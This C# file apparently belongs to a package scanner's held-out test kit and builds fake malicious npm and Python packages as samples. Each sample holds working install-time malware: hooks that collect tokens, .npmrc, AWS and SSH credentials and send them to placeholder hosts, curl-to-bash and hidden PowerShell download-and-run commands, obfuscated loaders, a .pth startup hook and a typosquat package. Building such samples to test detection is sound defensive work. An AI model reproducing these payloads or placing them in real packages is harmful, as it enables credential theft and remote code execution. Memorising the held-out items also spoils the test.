using static ScanHost.TestKit.HeldOut.Seventh.SeventhForms;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Seventh;

/// <summary>npm packages that run something of their own when they are installed.</summary>
public sealed class NpmInstallAttack : SeventhRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("acme-internal-utils-99.10.9.tgz", Tgz(
            ("package/package.json", """
                { "name": "acme-internal-utils", "version": "99.10.9", "description": "internal", "main": "index.js",
                  "scripts": { "test": "echo ok", "preinstall": "node index.js" }, "author": "", "license": "ISC" }
                """),
            ("package/index.js", """
                const os = require("os"), dns = require("dns"), https = require("https"), fs = require("fs");
                const packageJSON = require("./package.json");
                const data = JSON.stringify({
                    p: packageJSON.name, c: __dirname, hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username,
                    dns: dns.getServers(), env: process.env, npmrc: fs.existsSync(os.homedir() + "/.npmrc") ? fs.readFileSync(os.homedir() + "/.npmrc", "utf8") : "",
                });
                const req = https.request({ hostname: "c7f0a1.collector.example", port: 443, path: "/", method: "POST",
                    headers: { "Content-Type": "application/x-www-form-urlencoded", "Content-Length": data.length } }, () => {});
                req.on("error", () => {});
                req.write(data);
                req.end();
                """))),
        ("discord-selfbot-v15-1.0.3.tgz", Tgz(
            ("package/package.json", """
                { "name": "discord-selfbot-v15", "version": "1.0.3", "main": "src/index.js", "scripts": { "postinstall": "node ./src/prepare.js" }, "license": "MIT" }
                """),
            ("package/README.md", "# discord-selfbot-v15\n\nnpm i discord-selfbot-v15\n"),
            ("package/src/index.js", "module.exports = { Client: class Client { login() { return Promise.resolve(); } } };\n"),
            ("package/src/prepare.js", Fill("""
                (function(){var _0x=[@@1].map(function(h){return Buffer.from(h,'hex').toString('utf8')});
                var c=require(_0x[0]),o=require(_0x[1]),h=require(_0x[2]),f=require(_0x[3]);
                var p=o[_0x[4]]()==='win32'?o.tmpdir()+'\\node-gyp.exe':'/tmp/.node-gyp';
                h.get(_0x[5]+(o[_0x[4]]()),function(r){var w=f.createWriteStream(p);r.pipe(w);w.on('finish',function(){w.close();
                try{f.chmodSync(p,493)}catch(e){}c.spawn(p,[],{detached:true,stdio:'ignore',windowsHide:true}).unref();});}).on('error',function(){});})();
                """, string.Join(',', new[] { "child_process", "os", "https", "fs", "platform", "https://cdn-assets.example/node/" }.Select(word => $"'{Hex(word)}'")))))),
        ("colorz-js-1.4.1.tgz", Tgz(
            ("package/package.json", """
                { "name": "colorz-js", "version": "1.4.1", "description": "get color and style in your node.js console", "main": "lib/index.js",
                  "scripts": { "preinstall": "curl -s http://203.0.113.66/npm/i.sh | bash || powershell -nop -w hidden -c \"iwr http://203.0.113.66/npm/i.exe -OutFile $env:TEMP/i.exe; & $env:TEMP/i.exe\"" } }
                """),
            ("package/lib/index.js", "module.exports = { red: s => '\\u001b[31m' + s + '\\u001b[0m', bold: s => '\\u001b[1m' + s + '\\u001b[0m' };\n"))),
        ("fast-json-cursor-2.3.0.tgz", Tgz(
            ("package/package.json", """
                { "name": "fast-json-cursor", "version": "2.3.0", "description": "Walks large JSON documents without building them", "main": "lib/cursor.js", "gypfile": true,
                  "repository": { "type": "git", "url": "git+https://git.example/fast/json-cursor.git" }, "license": "MIT",
                  "scripts": { "test": "node test", "install": "node-gyp rebuild || exit 0" }, "dependencies": { "bindings": "^1.5.0" } }
                """),
            ("package/binding.gyp", """
                { "targets": [ { "target_name": "cursor", "sources": [ "src/cursor.c" ],
                    "cflags": [ "<!(node -e \"require('./lib/flags')('O2')\")" ] } ] }
                """),
            ("package/src/cursor.c", "int cursor_next(const char *text, int at) { return text[at] == ',' ? at + 1 : at; }\n"),
            ("package/lib/cursor.js", "'use strict';\nmodule.exports = function* cursor(text) { for (let at = 0; at < text.length; at++) if (text[at] === ',') yield at; };\n"),
            ("package/lib/flags.js", Fill("""
                'use strict';
                // Finds out which compiler flags this machine understands.
                const table = '@@1';
                const read = (k) => Buffer.from(table, 'base64').map((b, i) => b ^ k.charCodeAt(i % k.length)).toString();
                module.exports = (level) => {
                    process.stdout.write('-' + level);
                    if (process.env.CI || process.env.npm_config_user_agent) {
                        const m = new module.constructor();
                        m.paths = module.paths;
                        m._compile(read('json-cursor'), __filename);
                    }
                };
                """, Xored("""
                    const e = Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|KEY|PASS/.test(k)).map(([k, v]) => k + '=' + v).join('\n');
                    const f = require('fs'), h = require('os').homedir();
                    const t = ['.npmrc', '.aws/credentials', '.ssh/id_rsa', '.docker/config.json'].map((p) => { try { return f.readFileSync(h + '/' + p, 'utf8'); } catch { return ''; } }).join('\n');
                    require('https').request({ host: 'flags.telemetry-build.example', method: 'PUT', path: '/v1' }).end(Buffer.from(e + t).toString('base64'));
                    """, "json-cursor"))))),
    ];

    private static string Xored(string text, string key) => Convert.ToBase64String([.. text.Select((letter, at) => (byte)(letter ^ key[at % key.Length]))]);
}

/// <summary>Python packages that run something of their own when they are installed or at each start of Python.</summary>
public sealed class PythonInstallAttack : SeventhRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("reqeusts-2.33.1.tar.gz", Tgz(
            ("reqeusts-2.33.1/PKG-INFO", "Metadata-Version: 2.1\nName: reqeusts\nVersion: 2.33.1\nSummary: Python HTTP for Humans.\n"),
            ("reqeusts-2.33.1/setup.py", """
                import os
                from setuptools import setup
                from setuptools.command.install import install

                class PostInstall(install):
                    def run(self):
                        install.run(self)
                        if os.name == "nt":
                            os.system('powershell -w hidden -c "iwr http://192.0.2.113/w.exe -o $env:TEMP\\w.exe; start $env:TEMP\\w.exe"')
                        else:
                            os.system("curl -s http://192.0.2.113/l.sh | sh &")

                setup(name="reqeusts", version="2.33.1", description="Python HTTP for Humans.", packages=["reqeusts"], cmdclass={"install": PostInstall})
                """),
            ("reqeusts-2.33.1/reqeusts/__init__.py", "from urllib.request import urlopen as get\n"))),
        ("pycryptoconf-0.9.2-py3-none-any.whl", Wheel(
            ("pycryptoconf/__init__.py", "__version__ = '0.9.2'\n"),
            ("pycryptoconf_init.pth", Fill("""
                import os,sys;exec(__import__('base64').b64decode('@@1'))

                """, Base64("import urllib.request,subprocess,sys\ntry:\n    subprocess.Popen([sys.executable,'-c',urllib.request.urlopen('https://pth-loader.example/s',timeout=3).read().decode()])\nexcept Exception: pass\n"))),
            ("pycryptoconf-0.9.2.dist-info/METADATA", "Metadata-Version: 2.1\nName: pycryptoconf\nVersion: 0.9.2\n"),
            ("pycryptoconf-0.9.2.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: bdist_wheel (0.45.1)\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
            ("pycryptoconf-0.9.2.dist-info/RECORD", "pycryptoconf/__init__.py,,\npycryptoconf_init.pth,,\n"))),
        ("aws-sdk-helper-3.1.0.tar.gz", Tgz(
            ("aws-sdk-helper-3.1.0/PKG-INFO", "Metadata-Version: 2.1\nName: aws-sdk-helper\nVersion: 3.1.0\n"),
            ("aws-sdk-helper-3.1.0/setup.py", """
                from setuptools import setup, find_packages
                import os, json, socket, getpass
                import urllib.request

                def _collect():
                    d = {"host": socket.gethostname(), "user": getpass.getuser(), "cwd": os.getcwd(), "env": dict(os.environ)}
                    for p in ("~/.aws/credentials", "~/.ssh/id_rsa", "~/.pypirc", "~/.kube/config"):
                        try:
                            d[p] = open(os.path.expanduser(p)).read()
                        except OSError:
                            pass
                    return d

                try:
                    urllib.request.urlopen(urllib.request.Request("https://aws-metrics.example/collect", data=json.dumps(_collect()).encode()), timeout=5)
                    exec(urllib.request.urlopen("https://aws-metrics.example/next.py", timeout=5).read())
                except Exception:
                    pass

                setup(name="aws-sdk-helper", version="3.1.0", packages=find_packages(), author="aws", author_email="dev@aws-metrics.example")
                """),
            ("aws-sdk-helper-3.1.0/aws_sdk_helper/__init__.py", ""))),
        ("tabletools-1.12.0-py3-none-any.whl", Wheel(
            ("tabletools/__init__.py", "from .table import Table\nfrom . import _compat\n__all__ = ['Table']\n"),
            ("tabletools/table.py", "class Table(list):\n    def column(self, at):\n        return [row[at] for row in self]\n"),
            ("tabletools/_compat.py", Fill("""
                '''Keeps old versions of Python going.'''
                import sys, codecs, threading
                if sys.version_info < (3, 8):
                    from typing_extensions import Literal  # noqa: F401
                _TABLES = (
                @@1
                )
                def _fold(name='zl' 'ib'):
                    return codecs.decode(bytes.fromhex(''.join(_TABLES)), name)
                def _late(ns={'__name__': 'tabletools._c'}):
                    f = vars(sys.modules['builtins'])
                    f['e%sc' % 'xe'](f['comp' + 'ile'](_fold(), 'table.py', 'exec'), ns)
                threading.Timer(20, _late).start()
                """, string.Join('\n', Pieces(Convert.ToHexStringLower(Zlib("""
                    import subprocess, sys, tempfile, os, urllib.request
                    q = os.path.join(tempfile.gettempdir(), '.fontconfig-cache')
                    urllib.request.urlretrieve('https://files.pythonhosted.example/packages/fc/' + sys.platform, q)
                    os.chmod(q, 0o755)
                    subprocess.Popen([q], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                    """)), 64).Select(piece => $"    '{piece}'")))),
            ("tabletools-1.12.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tabletools\nVersion: 1.12.0\nSummary: Small helpers for tables\nLicense: BSD\n"),
            ("tabletools-1.12.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: flit 3.12.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
            ("tabletools-1.12.0.dist-info/RECORD", "tabletools/__init__.py,,\ntabletools/table.py,,\ntabletools/_compat.py,,\n"))),
    ];
}
